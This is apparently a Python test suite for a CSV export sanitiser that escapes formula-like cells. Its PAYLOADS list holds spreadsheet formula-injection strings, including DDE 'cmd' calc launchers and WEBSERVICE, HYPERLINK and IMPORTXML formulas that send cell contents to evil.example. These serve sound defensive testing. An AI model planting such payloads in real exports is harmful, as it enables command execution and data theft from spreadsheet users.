"""No cell of an export is a formula, and no cell ends another's."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from infoneige.safe_csv import lines, safe

PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=2+5+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IMAGE("https://evil.example/a.png")',
    "={1;2}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "+33 1 23 45 67 89",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@sum(1,1)",
    "@A1",
    "\t=1+1",
    "\tcmd",
    "\r=1+1",
    "\rcmd",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{EM SPACE}@A1",
    "\0=1+1",
    "\0cmd",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
    "\N{IDEOGRAPHIC SPACE}＋1",
    '=1+1";=2+2',
)
HARMLESS = ("rue Cartier", "a=b", "1-2", "1 + 1", "", "'=1", "été", '"', "12", "amelie@ville.example", "_", "–5")


def read(text: str) -> list[list[str]]:
    assert text.startswith("\N{ZERO WIDTH NO-BREAK SPACE}")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_payloads_are_forty() -> None:
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_is_text(payload: str) -> None:
    (cell,) = read("".join(lines(("name",), [(payload,)])))[1]
    assert cell == "'" + payload.replace("\0", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def test_numbers_of_ours_stay_numbers() -> None:
    assert [safe(value) for value in (-5, 0, -0.5, None)] == ["-5", "0", "-0.5", ""]


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2), max_size=4))
def test_every_cell_stays_in_its_place(rows: list[list[str]]) -> None:
    assert read("".join(lines(("one", "=two"), rows))) == [["one", "'=two"], *([safe(a) for a in row] for row in rows)]


@given(st.text())
def test_no_cell_begins_as_a_formula(text: str) -> None:
    assert not safe(text).strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
